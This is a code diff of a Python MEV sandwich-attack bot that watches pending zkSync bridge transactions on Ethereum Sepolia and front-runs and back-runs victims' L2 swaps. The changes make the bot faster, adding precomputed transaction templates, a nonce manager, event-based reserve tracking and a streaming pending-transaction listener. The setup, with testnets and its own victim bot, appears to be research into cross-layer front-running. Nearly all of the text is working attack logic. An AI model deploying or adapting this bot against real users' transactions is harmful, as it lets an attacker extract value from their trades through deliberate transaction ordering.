@@ -9,7 +9,6 @@ import os
 import sys
 import time
 import math
-import copy
 import asyncio
 import inquirer
 import datetime
@@ -19,9 +18,13 @@ from web3.gas_strategies.rpc import rpc_gas_price_strategy
 
 from eth_abi import abi
 
-sys.path.append(os.path.join(os.path.dirname(os.path.abspath(__file__)), '..'))
+sys.path.append(os.path.join(os.path.dirname(os.path.abspath(__file__)), '../..'))
 
 from utils.settings import *
+from utils.constant_product import ConstantProductPool, optimal_sandwich
+from utils.pending import follow_pending_transactions, mark
+from utils.transactions import AMOUNT_PLACEHOLDER, NonceManager, TransactionTemplate
+from utils.reserves import ReserveTracker
 
 L2_ARBITRAGE_BOT_ADDRESS  = '0x40d350f5a90A023E0499A3b85ae9c77838B9b5CD'
 L2_VICTIM_BOT_ADDRESS     = '0x0f3557E41BA480Cf7d59DBa71aF1248E8dbB1c1B'
@@ -32,9 +35,14 @@ L1_HOP_BRIDGE_ADDRESS     = '0xC8A4FB931e8D77df8497790381CA7d228E68a41b'
 
 SWAP_PERFORMED_EVENT      = '0xe4d9761ece9aad22a887c2b496caae579dc2654a9c8c0f5991ed4c9c605aa16f'
 
+# Fee of the SpaceFi (Uniswap V2) pair: fee, fee denominator and whether the fee stays in the reserves
+POOL_FEE = (3, 1000, True)
+
 
 def init():
     global attacker_account, victim_account
+    global nonces, templates
+    global reserve_tracker
     global web3, web3_zksync
     global  l1_zksync_bridge, L2_spacefi_pair, L2_spacefi_router, l2_arbitrage_bot, l2_victim_bot
 
@@ -79,6 +87,7 @@ def init():
     with open(_dir+'/abi/L2_VOLATILE_PAIR_CONTRACT_ABI.txt') as f:
         CONTRACT_ABI = f.read()
     L2_spacefi_pair = web3_zksync.eth.contract(address=CONTRACT_ADDRESS, abi=CONTRACT_ABI)
+    reserve_tracker = ReserveTracker(web3_zksync, L2_spacefi_pair)
 
     ''' L2_volatile_router '''
     CONTRACT_ADDRESS = web3_zksync.to_checksum_address(L2_SPACEFI_ROUTER_ADDRESS)
@@ -86,57 +95,33 @@ def init():
         CONTRACT_ABI = f.read()
     L2_spacefi_router = web3_zksync.eth.contract(address=CONTRACT_ADDRESS, abi=CONTRACT_ABI)
 
+    '''
+        build the sandwich transactions once, at trigger time only the amount, the nonce and the gas are filled in
+    '''
+
+    msg_frontrun = bytes.fromhex(l2_arbitrage_bot.encodeABI(fn_name='swap', args=[False,AMOUNT_PLACEHOLDER,0])[2:])
+    msg_backrun  = bytes.fromhex(l2_arbitrage_bot.encodeABI(fn_name='swap', args=[True,AMOUNT_PLACEHOLDER,0])[2:])
+    templates = {
+        'l1_frontrun': TransactionTemplate(l1_zksync_bridge.functions.requestL2Transaction(l2_arbitrage_bot.address,0,msg_frontrun,694246,800,[],attacker_account['address']).build_transaction(
+            {"chainId": ETHEREUM_SEPOLIA_ID, "from": attacker_account["address"], "nonce": 0, "gas": 0, "gasPrice": 0, "value": 10000000000000000})),
+        'l1_backrun':  TransactionTemplate(l1_zksync_bridge.functions.requestL2Transaction(l2_arbitrage_bot.address,0,msg_backrun,694246,800,[],attacker_account['address']).build_transaction(
+            {"chainId": ETHEREUM_SEPOLIA_ID, "from": attacker_account["address"], "nonce": 0, "gas": 0, "gasPrice": 0, "value": 10000000000000000})),
+        'l2_frontrun': TransactionTemplate(l2_arbitrage_bot.functions.swap(False,AMOUNT_PLACEHOLDER,0).build_transaction(
+            {"chainId": ZKSYNC_SEPOLIA_ID, "from": attacker_account["address"], "nonce": 0, "gas": 0, "gasPrice": 0, "value": 0})),
+        'l2_backrun':  TransactionTemplate(l2_arbitrage_bot.functions.swap(True,AMOUNT_PLACEHOLDER,0).build_transaction(
+            {"chainId": ZKSYNC_SEPOLIA_ID, "from": attacker_account["address"], "nonce": 0, "gas": 0, "gasPrice": 0, "value": 0})),
+    }
+
+    nonces = NonceManager()
+    nonces.track(web3, ETHEREUM_SEPOLIA_ID, attacker_account["address"])
+    nonces.track(web3_zksync, ZKSYNC_SEPOLIA_ID, attacker_account["address"])
+
 def getAmountOut(in_amount, zeroForOne, reserves):
     in_amount = in_amount * 997 # remove fee from amount received
     reserveA, reserveB = (reserves[0], reserves[1]) if zeroForOne else (reserves[1], reserves[0])
     out_amount = in_amount * reserveB // (reserveA*1000 + in_amount)
     return out_amount
 
-def swap(in_amount, zeroForOne, reserves):
-    fee = in_amount * 997
-    mod_in_amount = in_amount * 997 # remove fee from amount received
-    reserveA, reserveB = (reserves[0], reserves[1]) if zeroForOne else (reserves[1], reserves[0])
-    out_amount = mod_in_amount * reserveB // (reserveA*1000 + mod_in_amount)
-    if zeroForOne:
-        reserves[0] += in_amount
-        reserves[1] -= out_amount
-    else:
-        reserves[1] += in_amount
-        reserves[0] -= out_amount
-    return out_amount
-
-def calculateSwapWithChanges(tokenIndexFrom,tokenIndexTo,in_amount,reserves):
-    zeroForOne = tokenIndexFrom == 0
-    return swap(in_amount,zeroForOne,reserves)
-
-def ternarySearch(left,right,amountMin,victimIn,reserves,tokenIndexFrom,tokenIndexTo):
-    if abs(left-right) <= 1 * 10**1:
-        return (left+right)//2
-    # calculate the thirds bounds
-    left_third = (2*left+right)//3
-    right_third= (left+2*right)//3
-
-    reserves_copy_Left = copy.deepcopy(reserves)
-    l           = calculateSwapWithChanges(tokenIndexFrom,tokenIndexTo,left_third,reserves_copy_Left)
-    victimOutL  = calculateSwapWithChanges(tokenIndexFrom,tokenIndexTo,victimIn,reserves_copy_Left)
-    profitLEFT= -math.inf
-    if victimOutL >= amountMin:
-        backrunFinalAmountLeft = calculateSwapWithChanges(tokenIndexTo,tokenIndexFrom,l,reserves_copy_Left)
-        profitLEFT = backrunFinalAmountLeft - left_third
-
-    reserves_copy_Right = copy.deepcopy(reserves)
-    r           = calculateSwapWithChanges(tokenIndexFrom,tokenIndexTo,right_third,reserves_copy_Right)
-    victimOutR  = calculateSwapWithChanges(tokenIndexFrom,tokenIndexTo,victimIn,reserves_copy_Right)
-    profitRIGHT= -math.inf
-    if victimOutR >= amountMin:
-        backrunFinalAmountRight = calculateSwapWithChanges(tokenIndexTo,tokenIndexFrom,r,reserves_copy_Right)
-        profitRIGHT = backrunFinalAmountRight - right_third
-
-    if profitLEFT < profitRIGHT:
-        return ternarySearch(left_third, right,amountMin,victimIn, reserves,tokenIndexFrom,tokenIndexTo)
-    else:
-        return ternarySearch(left, right_third,amountMin,victimIn, reserves,tokenIndexFrom,tokenIndexTo)
-
 def getReserves(block_identifier='latest'):
     res = L2_spacefi_pair.functions.getReserves().call(block_identifier=(block_identifier))
     return [res[0],res[1]]
@@ -149,15 +134,11 @@ def trigger():
     victim_in_amount = int(1*1e18)
 
     # sendmessage
-    optimal_input_frontrun_trx = ternarySearch(1,int(4*1e18), 0,victim_in_amount,reserves,1,0)
+    optimal_input_frontrun_trx, front_run_output_trx, simulated_victim_output_trx, back_run_output_trx = optimal_sandwich(ConstantProductPool(reserves, *POOL_FEE), victim_in_amount, 0, int(4*1e18), 1, 0)
 
     if optimal_input_frontrun_trx < 10:
         return
 
-    front_run_output_trx = calculateSwapWithChanges(1,0,optimal_input_frontrun_trx,reserves)
-    simulated_victim_output_trx = calculateSwapWithChanges(1,0,victim_in_amount,reserves)
-    back_run_output_trx = calculateSwapWithChanges(0,1,front_run_output_trx,reserves)
-
     profit_backrun = back_run_output_trx - optimal_input_frontrun_trx
 
     if profit_backrun < 10:
@@ -187,26 +168,20 @@ def strategy0():
     print("Frontrun Transaction was sent on L1:")
     print(f"https://sepolia.etherscan.io/tx/{tx_receipt_frontrun['transactionHash'].hex()}")
 
-def strategy1(optimal_input_frontrun_trx,victim_in_amount,front_run_output_trx,victim_gas, victim_gas_price):
-    msg1 = bytes.fromhex(l2_arbitrage_bot.encodeABI(fn_name='swap',args=[False,int(optimal_input_frontrun_trx),int(0)])[2:])
-    msg3 = bytes.fromhex(l2_arbitrage_bot.encodeABI(fn_name='swap',args=[True,int(front_run_output_trx),int(0)])[2:])
-
-    nonce        = web3.eth.get_transaction_count(attacker_account["address"])
+def strategy1(optimal_input_frontrun_trx,victim_in_amount,front_run_output_trx,victim_gas, victim_gas_price,timings=None):
+    nonce = nonces.reserve(ETHEREUM_SEPOLIA_ID, attacker_account["address"], 2)
 
     # sendmessage
-    call_function = l1_zksync_bridge.functions.requestL2Transaction(l2_arbitrage_bot.address,0,msg1,694246,800,[],attacker_account['address']).build_transaction(
-            {"chainId": ETHEREUM_SEPOLIA_ID, "from": attacker_account["address"], "nonce": nonce, "gas":victim_gas+1 , "gasPrice":victim_gas_price+1, "value": 10000000000000000}
-            )
+    call_function = templates['l1_frontrun'].fill(int(optimal_input_frontrun_trx), nonce, victim_gas+1, victim_gas_price+1)
     signed_tx_frontrun = web3.eth.account.sign_transaction(call_function, private_key=attacker_account['private_key'])
 
     # backrun
     nonce = nonce+1
-    call_function = l1_zksync_bridge.functions.requestL2Transaction(l2_arbitrage_bot.address,0,msg3,694246,800,[],attacker_account['address']).build_transaction(
-            {"chainId": ETHEREUM_SEPOLIA_ID, "from": attacker_account["address"], "nonce": nonce, "gas":victim_gas-1 , "gasPrice":victim_gas_price-1 , "value": 10000000000000000}
-            )
+    call_function = templates['l1_backrun'].fill(int(front_run_output_trx), nonce, victim_gas-1, victim_gas_price-1)
     signed_tx_backrun = web3.eth.account.sign_transaction(call_function, private_key=attacker_account['private_key'])
 
     send_receipt_frontrun = web3.eth.send_raw_transaction(signed_tx_frontrun.rawTransaction)
+    mark(timings, "submitted")
     send_tx_backrun = web3.eth.send_raw_transaction(signed_tx_backrun.rawTransaction)
 
     tx_receipt_frontrun = web3.eth.wait_for_transaction_receipt(send_receipt_frontrun)
@@ -217,26 +192,20 @@ def strategy1(optimal_input_frontrun_trx,victim_in_amount,front_run_output_trx,v
     print("Backrun Transaction was sent on L1:")
     print(f"https://sepolia.etherscan.io/tx/{tx_receipt_backrun['transactionHash'].hex()}")
 
-def strategy2(optimal_input_frontrun_trx,victim_in_amount,front_run_output_trx,victim_gas, victim_gas_price):
-    msg1 = bytes.fromhex(l2_arbitrage_bot.encodeABI(fn_name='swap',args=[False,int(optimal_input_frontrun_trx),int(0)])[2:])
-    msg2 = bytes.fromhex(l2_victim_bot.encodeABI(fn_name='swap',args=[False,int(victim_in_amount),int(0)])[2:])
-
-    nonce         = web3.eth.get_transaction_count(attacker_account["address"])
-    nonce_zksync= web3_zksync.eth.get_transaction_count(attacker_account["address"])
+def strategy2(optimal_input_frontrun_trx,victim_in_amount,front_run_output_trx,victim_gas, victim_gas_price,timings=None):
+    nonce         = nonces.reserve(ETHEREUM_SEPOLIA_ID, attacker_account["address"])
+    nonce_zksync= nonces.reserve(ZKSYNC_SEPOLIA_ID, attacker_account["address"])
 
     # sendmessage
-    call_function = l1_zksync_bridge.functions.requestL2Transaction(l2_arbitrage_bot.address,0,msg1,694246,800,[],attacker_account['address']).build_transaction(
-            {"chainId": ETHEREUM_SEPOLIA_ID, "from": attacker_account["address"], "nonce": nonce, "gas":victim_gas+1 , "gasPrice":victim_gas_price+1, "value": 10000000000000000}
-            )
+    call_function = templates['l1_frontrun'].fill(int(optimal_input_frontrun_trx), nonce, victim_gas+1, victim_gas_price+1)
     signed_tx_frontrun = web3.eth.account.sign_transaction(call_function, private_key=attacker_account['private_key'])
 
     # backrun
-    call_function = l2_arbitrage_bot.functions.swap(True,front_run_output_trx,0).build_transaction(
-            {"chainId": ZKSYNC_SEPOLIA_ID, "from": attacker_account["address"], "nonce": nonce_zksync, "gas":victim_gas-1 , "gasPrice":victim_gas_price-1, "value": 0}
-            )
+    call_function = templates['l2_backrun'].fill(int(front_run_output_trx), nonce_zksync, victim_gas-1, victim_gas_price-1)
     signed_tx_backrun = web3_zksync.eth.account.sign_transaction(call_function, private_key=attacker_account['private_key'])
 
     send_receipt_frontrun = web3.eth.send_raw_transaction(signed_tx_frontrun.rawTransaction)
+    mark(timings, "submitted")
 
     tx_receipt_frontrun = web3.eth.wait_for_transaction_receipt(send_receipt_frontrun)
     print("Frontrun Transaction was sent on L1:")
@@ -254,23 +223,20 @@ def strategy2(optimal_input_frontrun_trx,victim_in_amount,front_run_output_trx,v
             return
         time.sleep(0.1)
 
-def strategy3(optimal_input_frontrun_trx,victim_in_amount,front_run_output_trx,victim_gas, victim_gas_price):
-    nonce        = web3_zksync.eth.get_transaction_count(attacker_account["address"])
+def strategy3(optimal_input_frontrun_trx,victim_in_amount,front_run_output_trx,victim_gas, victim_gas_price,timings=None):
+    nonce = nonces.reserve(ZKSYNC_SEPOLIA_ID, attacker_account["address"], 2)
 
     # sendmessage
-    call_function = l2_arbitrage_bot.functions.swap(False,optimal_input_frontrun_trx,0).build_transaction(
-            {"chainId": ZKSYNC_SEPOLIA_ID, "from": attacker_account["address"], "nonce": nonce, "gas":victim_gas+1 , "gasPrice":victim_gas_price+1, "value": 0}
-            )
+    call_function = templates['l2_frontrun'].fill(int(optimal_input_frontrun_trx), nonce, victim_gas+1, victim_gas_price+1)
     signed_tx_frontrun = web3_zksync.eth.account.sign_transaction(call_function, private_key=attacker_account['private_key'])
 
     # backrun
     nonce = nonce+1
-    call_function = l2_arbitrage_bot.functions.swap(True,front_run_output_trx,0).build_transaction(
-            {"chainId": ZKSYNC_SEPOLIA_ID, "from": attacker_account["address"], "nonce": nonce, "gas":victim_gas-1 , "gasPrice":victim_gas_price-1, "value": 0}
-            )
+    call_function = templates['l2_backrun'].fill(int(front_run_output_trx), nonce, victim_gas-1, victim_gas_price-1)
     signed_tx_backrun = web3_zksync.eth.account.sign_transaction(call_function, private_key=attacker_account['private_key'])
 
     send_receipt_frontrun = web3_zksync.eth.send_raw_transaction(signed_tx_frontrun.rawTransaction)
+    mark(timings, "submitted")
     tx_receipt_frontrun = web3_zksync.eth.wait_for_transaction_receipt(send_receipt_frontrun)
     print("Frontrun Transaction was sent on L2")
     print(f"https://sepolia-era.zksync.network/tx/{tx_receipt_frontrun['transactionHash'].hex()}")
@@ -289,16 +255,13 @@ def strategy3(optimal_input_frontrun_trx,victim_in_amount,front_run_output_trx,v
 
 def calculate_profitable(victim_in_amount, victim_min_amount, budget, zero_for_one):
     from_index, to_index = (1,0) if not zero_for_one else (0,1)
-    current_reserves = getReserves()
-    optimal_input_frontrun_trx = ternarySearch(1,budget, victim_min_amount ,victim_in_amount,current_reserves,from_index,to_index)
+    # Reserves are kept current from the Sync events of the pair, hence the decision does not wait for the node
+    current_reserves, block_number = reserve_tracker.get()
+    optimal_input_frontrun_trx, front_run_output_trx, simulated_victim_output_trx, back_run_output_trx = optimal_sandwich(ConstantProductPool(current_reserves, *POOL_FEE), victim_in_amount, victim_min_amount, budget, from_index, to_index)
 
     if optimal_input_frontrun_trx < 10:
         return -1,-1,-1
 
-    front_run_output_trx =        calculateSwapWithChanges(from_index,to_index,optimal_input_frontrun_trx,current_reserves)
-    simulated_victim_output_trx = calculateSwapWithChanges(from_index,to_index,victim_in_amount,current_reserves)
-    back_run_output_trx =         calculateSwapWithChanges(to_index, from_index, front_run_output_trx,current_reserves)
-
     profit_backrun = back_run_output_trx - optimal_input_frontrun_trx
 
     if profit_backrun < 10:
@@ -322,86 +285,84 @@ def send_victim_transction(victim_in_amount):
     print("Victim Transaction was sent on L1: ")
     print(f"https://sepolia.etherscan.io/tx/{send_tx_victim.hex()}")
 
-def analyze_l1_pending_transaction(strategy, event = {}):
-    try:
-        transaction_hash = Web3.to_json(event).strip('"')
-        transaction = web3.eth.get_transaction(transaction_hash)
-
-        if transaction['from'] == attacker_account["address"]:
-            return
+def decode_l1_pending_transaction(transaction):
+    # Runs on the event loop for every pending transaction, hence it only decodes the calldata without any RPC call
+    transaction_hash = transaction["hash"]
 
-        if not transaction["to"] == L1_ZKSYNC_BRIDGE_ADDRESS:
-            return
+    if transaction['from'] == attacker_account["address"].lower():
+        return
 
-        victim_gas = transaction["gas"]
-        victim_gas_price = transaction["gasPrice"]
-        data = transaction["input"]
-        # first 8 Bytes are the function signature. We want to check for the signature of requestL2Transaction
-        # --> 0xeb672419
-        function_signature = data[2:10]
+    if not transaction["to"] == L1_ZKSYNC_BRIDGE_ADDRESS.lower():
+        return
 
-        if not function_signature == 'eb672419':
-            return
+    victim_gas = transaction["gas"]
+    victim_gas_price = transaction["gasPrice"]
+    data = transaction["input"]
+    # first 8 Bytes are the function signature. We want to check for the signature of requestL2Transaction
+    # --> 0xeb672419
+    function_signature = data[2:10]
 
-        print(f"Found transaction triggering the L1 ZkSync Bridge withb hash: {transaction_hash}")
+    if not function_signature == 'eb672419':
+        return
 
-        #now we need to decode the actual input:
-        #requestL2Transaction(
-            # address _contractL2, <<-- This can also be used to identify potential victims
-            # uint256 _l2Value,
-            # bytes _calldata, <<-- We are interested in this!
-            # uint256 _l2GasLimit,
-            # uint256 _l2GasPerPubdataByteLimit,
-            # bytes[] _factoryDeps,
-            # address _refundRecipient)
+    print(f"Found transaction triggering the L1 ZkSync Bridge withb hash: {transaction_hash}")
 
-        # we actually know which function signature we are looking for
-        # this part is mostly manualy work, but can be automated by the detection scripts, extracting the function calls
-        # from the data gathered, in this case we know the signature to look out for is 0x08c84c21
-        # we will use the find() function to find if the instance is in the data. Afterwards we read the fields in the msg
+    #now we need to decode the actual input:
+    #requestL2Transaction(
+        # address _contractL2, <<-- This can also be used to identify potential victims
+        # uint256 _l2Value,
+        # bytes _calldata, <<-- We are interested in this!
+        # uint256 _l2GasLimit,
+        # uint256 _l2GasPerPubdataByteLimit,
+        # bytes[] _factoryDeps,
+        # address _refundRecipient)
 
-        start_index = data.find("08c84c21") # offset this value by 8 to get rid of signature
+    # we actually know which function signature we are looking for
+    # this part is mostly manualy work, but can be automated by the detection scripts, extracting the function calls
+    # from the data gathered, in this case we know the signature to look out for is 0x08c84c21
+    # we will use the find() function to find if the instance is in the data. Afterwards we read the fields in the msg
 
-        if start_index == -1: #not found
-            print(f"No swap induced on L2")
-            return
+    start_index = data.find("08c84c21") # offset this value by 8 to get rid of signature
 
-        print(f"This transaction induces a swap on L2")
+    if start_index == -1: #not found
+        print(f"No swap induced on L2")
+        return
 
-        # decode input fields:
-        zero_for_one = bool(int(data[start_index+8:start_index+8+64]))
-        amount_in    = int(data[start_index+8+1*64 :start_index+8+2*64],16)
-        amount_min   = int(data[start_index+8+2*64:start_index+8+3*64],16)
+    print(f"This transaction induces a swap on L2")
 
-        # we now calculate if an attack is even possible and profitable
-        profit_backrun, optimal_input_frontrun_trx, front_run_output_trx = calculate_profitable(amount_in,amount_min,attacker_budget,zero_for_one)
+    # decode input fields:
+    zero_for_one = bool(int(data[start_index+8:start_index+8+64]))
+    amount_in    = int(data[start_index+8+1*64 :start_index+8+2*64],16)
+    amount_min   = int(data[start_index+8+2*64:start_index+8+3*64],16)
 
-        if profit_backrun == -1 or optimal_input_frontrun_trx == -1 or front_run_output_trx == -1:
-            print(f"Not profitable to sandwich")
-            return
+    return victim_gas, victim_gas_price, zero_for_one, amount_in, amount_min
 
-        print(f"This transaction induces a swap on L2 which is profitable for the attacker with potential profit of {profit_backrun/(1e18)} ETH")
-        print(f"Executing strategy: {strategy}")
+def attack_l1_pending_transaction(strategy, victim, timings=None):
+    # Runs in an executor, since the profitability decision and the attack wait for RPC calls
+    victim_gas, victim_gas_price, zero_for_one, amount_in, amount_min = victim
 
-        if strategy == 1:
-            strategy1(optimal_input_frontrun_trx,amount_in,front_run_output_trx,victim_gas,victim_gas_price)
-        elif strategy == 2:
-            strategy2(optimal_input_frontrun_trx,amount_in,front_run_output_trx,victim_gas,victim_gas_price)
-        else:
-            strategy3(optimal_input_frontrun_trx,amount_in,front_run_output_trx,victim_gas,victim_gas_price)
+    # we now calculate if an attack is even possible and profitable
+    profit_backrun, optimal_input_frontrun_trx, front_run_output_trx = calculate_profitable(amount_in,amount_min,attacker_budget,zero_for_one)
+    mark(timings, "decided")
 
-        # we did our job now!
+    if profit_backrun == -1 or optimal_input_frontrun_trx == -1 or front_run_output_trx == -1:
+        print(f"Not profitable to sandwich")
         return
 
-    except Exception as err:
-        print(f'error: {err}')
+    print(f"This transaction induces a swap on L2 which is profitable for the attacker with potential profit of {profit_backrun/(1e18)} ETH")
+    print(f"Executing strategy: {strategy}")
 
-async def log_loop(event_filter, poll_interval, strategy):
-    while True:
-        events = event_filter.get_new_entries()
-        for event in events:
-            analyze_l1_pending_transaction(strategy,event)
-        await asyncio.sleep(poll_interval)
+    try:
+        if strategy == 1:
+            strategy1(optimal_input_frontrun_trx,amount_in,front_run_output_trx,victim_gas,victim_gas_price,timings)
+        elif strategy == 2:
+            strategy2(optimal_input_frontrun_trx,amount_in,front_run_output_trx,victim_gas,victim_gas_price,timings)
+        else:
+            strategy3(optimal_input_frontrun_trx,amount_in,front_run_output_trx,victim_gas,victim_gas_price,timings)
+    except Exception:
+        # Nonces reserved for transactions that were not sent would block every later attack
+        nonces.resync()
+        raise
 
 def main():
     # filter for pending transactions
@@ -425,17 +386,13 @@ def main():
 
     print()
 
-    tx_filter = web3.eth.filter('pending')
-    loop = asyncio.get_event_loop()
-
-    send_victim_transction(victim_in_amount)
-
-    try:
-        loop.run_until_complete(
-            asyncio.gather(
-                log_loop(tx_filter, 0.01,strategy)))
-    finally:
-        loop.close()
+    # The victim transaction is only sent once pending transactions are tracked, so that it is seen as well
+    asyncio.run(follow_pending_transactions(
+        web3.provider.endpoint_uri,
+        decode_l1_pending_transaction,
+        lambda victim, timings: attack_l1_pending_transaction(strategy, victim, timings),
+        lambda: send_victim_transction(victim_in_amount),
+        0.01))
 
 if __name__ == '__main__':
     main()